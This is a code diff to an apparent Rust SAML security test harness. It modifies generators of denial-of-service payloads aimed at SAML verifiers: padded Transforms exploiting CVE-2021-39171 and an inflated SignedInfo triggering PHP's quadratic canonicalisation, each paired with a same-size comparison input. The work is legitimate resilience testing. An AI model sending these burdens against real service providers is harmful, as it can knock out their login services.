@@ -6,7 +6,7 @@ use std::io::Write;
 use std::sync::OnceLock;
 
 use base64::Engine;
-use saml_protocol::{ASSERTION_NS, DSIG_NS, EXC_C14N};
+use saml_protocol::{ASSERTION_NS, DSIG_NS, ENVELOPED, EXC_C14N};
 
 use crate::bytes::{self, Doc, Node};
 use crate::check::{Burden, SAME_SIZE_RATIO, SAME_WORK_RATIO};
@@ -103,8 +103,8 @@ pub fn deflate_bomb(f: &Forge) -> Result<Burden, Skip> {
 /// Reference's transforms before it checks the SignatureValue canonicalises the large
 /// element once per transform first (passport-saml < 3.1.0 CVE-2021-39171, through
 /// xml-crypto; libxmlsec1 runs them too). The yardstick is the same response and claim with
-/// only its own transforms, the last of them holding instead a foreign element with as many
-/// `<x Algorithm="…"/>` elements, the same length in all: the same bytes and elements to
+/// only its own transforms, its enveloped-signature one holding instead a foreign element with
+/// as many `<x Algorithm="…"/>` elements, the same length in all: the same bytes and elements to
 /// parse, as many of them in SignedInfo (a canonicaliser whose cost grows faster than
 /// SignedInfo's size spends the same on both: see [`large_signed_info`]) and no more
 /// transforms to run, so an SP that refuses extra transforms before it runs them spends about
@@ -130,9 +130,9 @@ pub fn many_transforms(f: &Forge) -> Result<Burden, Skip> {
         let at = bytes::before_end_tag(doc.src, transforms);
         burden.push(bytes::insert(at, extra.repeat(added)));
         shown.push(bytes::insert(at, format!("<!-- {added} more: {extra} -->")));
-        let last = last_transform(transforms)?;
+        let padded = padded_transform(transforms)?;
         let elements = format!("<x Algorithm=\"{EXC_C14N}\"/>").repeat(added);
-        let bare = bytes::append_content(doc.src, last, &foreign(&elements, 0));
+        let bare = bytes::append_content(doc.src, padded, &foreign(&elements, 0));
         let spaces = (extra.len() * added)
             .checked_sub(grown(&bare))
             .ok_or_else(|| {
@@ -140,7 +140,7 @@ pub fn many_transforms(f: &Forge) -> Result<Burden, Skip> {
             })?;
         yardstick.push(bytes::append_content(
             doc.src,
-            last,
+            padded,
             &foreign(&elements, spaces),
         ));
     }
@@ -148,17 +148,18 @@ pub fn many_transforms(f: &Forge) -> Result<Burden, Skip> {
         encoded: encoded(bytes::splice(doc.src, burden)),
         shown: bytes::splice(doc.src, shown),
         yardstick: encoded(bytes::splice(doc.src, yardstick)),
-        yardstick_is: "the same-size response with only its own transforms, as many elements inside the last of them",
+        yardstick_is: "the same-size response with only its own transforms, as many elements inside its enveloped-signature one",
         ratio: SAME_SIZE_RATIO,
         ignorable: false,
     })
 }
 
 /// The namespace of the elements the dos burdens and yardsticks put inside a signature: a
-/// foreign one, which the content of ds:Transform and ds:Object allows (`##other`, lax).
+/// foreign one, which the content of ds:Transform (`##other`) and ds:Object (`##any`) allows.
 const FOREIGN_NS: &str = "urn:saml-harness:dos";
 
-/// A `<w>` in [`FOREIGN_NS`] holding `inner`, then `pad` spaces.
+/// A `<w>` in [`FOREIGN_NS`] holding `inner`, then `pad` spaces (unprefixed, so that its
+/// elements bring no namespace but the one declared on `<w>`).
 fn foreign(inner: &str, pad: usize) -> String {
     format!("<w xmlns=\"{FOREIGN_NS}\">{inner}{}</w>", " ".repeat(pad))
 }
@@ -168,11 +169,18 @@ fn grown((range, text): &(std::ops::Range<usize>, String)) -> usize {
     text.len().saturating_sub(range.len())
 }
 
-/// The last Transform in `transforms`.
-fn last_transform<'a, 'i>(transforms: Node<'a, 'i>) -> Result<Node<'a, 'i>, Skip> {
-    transforms
-        .children()
-        .rfind(|n| n.has_tag_name((DSIG_NS, "Transform")))
+/// The Transform in `transforms` whose content the padding goes into: the enveloped-signature
+/// one, which takes no parameters, so verifiers read past its content (libxmlsec1 refuses
+/// anything but InclusiveNamespaces inside an exclusive-C14N one); else the last.
+fn padded_transform<'a, 'i>(transforms: Node<'a, 'i>) -> Result<Node<'a, 'i>, Skip> {
+    let all = || {
+        transforms
+            .children()
+            .filter(|n| n.has_tag_name((DSIG_NS, "Transform")))
+    };
+    all()
+        .find(|t| t.attribute("Algorithm") == Some(ENVELOPED))
+        .or_else(|| all().next_back())
         .ok_or_else(|| Skip::NotApplicable("a signature's Transforms holds no Transform".into()))
 }
 
@@ -189,27 +197,40 @@ fn signature_around<'a, 'i>(transforms: Node<'a, 'i>) -> Result<Node<'a, 'i>, Sk
 /// 20,000 on this machine, a linear canonicaliser a few milliseconds.
 pub const SIGNED_INFO_ELEMENTS: usize = 12_000;
 
-/// The IdP's own response with [`SIGNED_INFO_ELEMENTS`] empty elements in a foreign element
-/// inside the last Transform of every signature's Reference (schema-valid: a Transform's
-/// content is `##other`, lax): about 70 KB per signature. Every verifier canonicalises
-/// SignedInfo before it checks the SignatureValue, so this costs an unsigned message what the
-/// canonicaliser makes of it. PHP before 8.4 canonicalises an element (`DOMNode::C14N`, as
-/// xmlseclibs does SignedInfo: SimpleSAMLphp, php-saml) by gathering its nodes with an XPath
-/// query and testing each against that set by a linear search: quadratic in SignedInfo's
-/// nodes (php bug 53655, fixed by php-src pull request 12278; xmlseclibs issue 220). The
-/// yardstick holds the same foreign element in a ds:Object at the end of each signature
-/// (outside SignedInfo, removed with the signature by the enveloped transform) and a
-/// SignatureValue with one character changed, so that it is refused where the burden is.
+/// How many of the [`SIGNED_INFO_ELEMENTS`] share a parent: npm's xpath walks siblings for
+/// every node it orders (quadratic in siblings: 1.75 s per `//*[@ID=…]` over 12,000 of them,
+/// 0.14 s over 120 groups of 100), a cost that is not this check's.
+const SIBLINGS: usize = 100;
+const _: () = assert!(SIGNED_INFO_ELEMENTS % SIBLINGS == 0);
+
+/// The IdP's own response with [`SIGNED_INFO_ELEMENTS`] empty elements, [`SIBLINGS`] to a
+/// parent, in a foreign element inside the enveloped-signature Transform of every signature's
+/// Reference (schema-valid: a Transform's content is `##other`): about 70 KB per signature. A
+/// verifier canonicalises SignedInfo to check the SignatureValue, so an unsigned message costs
+/// whatever its canonicaliser makes of SignedInfo's size. PHP before 8.4 canonicalises an
+/// element (`DOMNode::C14N`, as xmlseclibs does SignedInfo: SimpleSAMLphp 1.19, php-saml) by
+/// gathering its nodes with an XPath query and testing each against that set by a linear
+/// search: quadratic in SignedInfo's nodes (PHP bug 53655, fixed in PHP 8.4 by php-src
+/// commit 5d68d61; xmlseclibs issue 220). The yardstick holds the same foreign element in a
+/// ds:Object at the end of each signature (outside SignedInfo, removed with the signature by
+/// the enveloped transform) and a SignatureValue with one character changed, so a verifier
+/// refuses both at the SignatureValue. An SP that signs anyone in from the burden did not
+/// check the SignatureValue at all.
 pub fn large_signed_info(f: &Forge) -> Result<Burden, Skip> {
     let doc = Doc::parse(f.seed)?;
-    let elements = "<x/>".repeat(SIGNED_INFO_ELEMENTS);
-    let summary = format!("<x/><!-- … {} more <x/> -->", SIGNED_INFO_ELEMENTS - 1);
+    let elements =
+        format!("<y>{}</y>", "<x/>".repeat(SIBLINGS)).repeat(SIGNED_INFO_ELEMENTS / SIBLINGS);
+    let summary = format!(
+        "<y><x/><!-- … {} more <x/> --></y><!-- … {} more <y> of {SIBLINGS} <x/> -->",
+        SIBLINGS - 1,
+        SIGNED_INFO_ELEMENTS / SIBLINGS - 1
+    );
     let (mut burden, mut shown, mut yardstick) = (vec![], vec![], vec![]);
     for transforms in signed_transforms(&doc)? {
-        let (last, signature) = (last_transform(transforms)?, signature_around(transforms)?);
+        let (padded, signature) = (padded_transform(transforms)?, signature_around(transforms)?);
         let ds = ds_prefix(&doc, transforms);
         let in_transform =
-            |inner: &str, pad| bytes::append_content(doc.src, last, &foreign(inner, pad));
+            |inner: &str, pad| bytes::append_content(doc.src, padded, &foreign(inner, pad));
         let in_object = |inner: &str, pad| {
             bytes::insert(
                 bytes::before_end_tag(doc.src, signature),
@@ -236,20 +257,22 @@ pub fn large_signed_info(f: &Forge) -> Result<Burden, Skip> {
 }
 
 /// The edit changing one base64 character in the middle of `signature`'s SignatureValue (the
-/// same length, still base64), so that the signature no longer verifies; none without one.
+/// same length, still base64, never inside a character reference), so that the signature no
+/// longer verifies; none without one.
 fn broken_signature_value(src: &str, signature: Node) -> Option<(std::ops::Range<usize>, String)> {
     let value = signature
         .children()
         .find(|n| n.has_tag_name((DSIG_NS, "SignatureValue")))?;
     let open = bytes::after_start_tag(src, value);
-    let text = src.get(open..bytes::before_end_tag(src, value))?;
+    let text = src.get(open..bytes::before_end_tag(src, value))?.as_bytes();
+    // A letter or digit between two more: never inside a character reference (`&#13;`).
+    let from = (text.len() / 2).max(1);
     let at = open
+        + from
         + text
-            .bytes()
-            .enumerate()
-            .skip(text.len() / 2)
-            .find(|(_, b)| b.is_ascii_alphanumeric())?
-            .0;
+            .get(from - 1..)?
+            .windows(3)
+            .position(|w| w.iter().all(u8::is_ascii_alphanumeric))?;
     let changed = if src.as_bytes()[at] == b'A' { "B" } else { "A" };
     Some((at..at + 1, changed.to_owned()))
 }
@@ -541,7 +564,7 @@ mod tests {
     }
 
     #[test]
-    fn many_transforms_pads_the_signed_claims_and_its_yardstick_holds_as_many_elements_in_its_last_transform(
+    fn many_transforms_pads_the_signed_claims_and_its_yardstick_holds_as_many_elements_in_signed_info(
     ) {
         let burden = many_transforms(&Forge::bare(SIGNED)).unwrap();
         assert_eq!(shape(&burden.encoded), (TRANSFORMS, TRANSFORMS_PADDING));
@@ -549,19 +572,30 @@ mod tests {
         assert_eq!(burden.yardstick.len(), burden.encoded.len());
         let elements = |encoded: &str| decoded(encoded).matches(EXC_C14N).count();
         assert_eq!(elements(&burden.yardstick), elements(&burden.encoded));
-        let inside_last_transform = |encoded: &str| {
+        // The yardstick's elements sit in the enveloped-signature Transform: SignedInfo holds
+        // as many elements in both (the yardstick's `<w>` is one more).
+        let in_signed_info = |encoded: &str, enveloped_only: bool| {
             let xml = decoded(encoded);
             let doc = roxmltree::Document::parse(&xml).unwrap();
-            let last = doc
+            let info = doc
                 .descendants()
-                .rfind(|n| n.has_tag_name((DSIG_NS, "Transform")))
+                .find(|n| n.has_tag_name((DSIG_NS, "SignedInfo")))
                 .unwrap();
-            last.descendants()
-                .filter(|n| n.has_tag_name((FOREIGN_NS, "x")))
+            let enveloped = |n: &roxmltree::Node| {
+                n.ancestors()
+                    .skip(1)
+                    .any(|a| a.attribute("Algorithm") == Some(ENVELOPED))
+            };
+            info.descendants()
+                .filter(|n| n.is_element() && (!enveloped_only || enveloped(n)))
                 .count()
         };
-        assert_eq!(inside_last_transform(&burden.encoded), 0);
-        assert_eq!(inside_last_transform(&burden.yardstick), TRANSFORMS - 2);
+        assert_eq!(in_signed_info(&burden.encoded, true), 0);
+        assert_eq!(in_signed_info(&burden.yardstick, true), TRANSFORMS - 2 + 1);
+        assert_eq!(
+            in_signed_info(&burden.yardstick, false),
+            in_signed_info(&burden.encoded, false) + 1
+        );
         assert!(
             burden.encoded.len() < 512 * 1024 - 1024,
             "{}",
@@ -602,11 +636,28 @@ mod tests {
         assert!(
             burden
                 .shown
-                .contains("<x/><!-- … 11999 more <x/> --></w></Transform>"),
+                .contains("<!-- … 99 more <x/> --></y><!-- … 119 more <y> of 100 <x/> --></w>"),
             "{}",
             burden.shown
         );
         assert!(burden.shown.len() < 2048, "{}", burden.shown);
+    }
+
+    #[test]
+    fn the_broken_signature_value_changes_one_character_outside_character_references() {
+        let value = "QUJD&#13;\nREVG&#13;\nR0hJ&#13;\nSktM";
+        let xml = SIGNED.replace("c2lnbmF0dXJl", value);
+        let doc = roxmltree::Document::parse(&xml).unwrap();
+        let signature = doc
+            .descendants()
+            .find(|n| n.has_tag_name((DSIG_NS, "Signature")))
+            .unwrap();
+        let edit = broken_signature_value(&xml, signature).unwrap();
+        let broken = bytes::splice(&xml, vec![edit]);
+        roxmltree::Document::parse(&broken).unwrap();
+        assert_eq!(broken.len(), xml.len());
+        assert_eq!(broken.matches("&#13;").count(), 3);
+        assert_ne!(broken, xml);
     }
 
     #[test]
